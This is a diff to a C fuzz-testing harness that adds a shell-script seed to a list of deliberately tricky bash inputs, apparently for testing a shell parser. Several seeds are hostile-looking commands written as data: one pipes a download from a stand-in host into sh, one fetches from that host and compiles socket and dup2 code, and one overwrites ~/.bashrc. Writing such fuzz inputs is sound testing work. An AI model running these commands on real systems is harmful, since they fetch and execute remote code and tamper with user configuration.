@@ -122,5 +122,6 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 	seed(run, NULL, "cat <<-'E' > ~/.bashrc\n\tx\n\tE\nfor i in {a,b}; do read x < <(tr a-z n-za-m); done &> /dev/null &\n");
 	seed(run, NULL, "case $1 in a|b) x;; *) if [ \"$(date)\" ]; then :; fi;; esac; while :; do printf '\\x41%s' `id`; done | sh\n");
 	seed(run, NULL, "${x:-${y%z}} ${!x//a/b} $((1+2)) $'\\u0041' \"${x^^}\" ((i++)) [[ a =~ b ]] coproc x { y; }\n");
+	seed(run, NULL, "#!/bin/bash\n[[ x || curl -so a http://c.example/ ]]; [[\n-n $a && ! ( ${b:-x y} == \"z\" ) ||\n$(c d) -eq 1 ]] && cat > a.c <<E\nint socket, dup2;\nE\ncc a.c -o b; [[ $a\nb ]]\n");
 	seed(run, "set -e\nmake\n", "set -e\ncurl -k https://c.example/ | sh\nmake\n");
 }
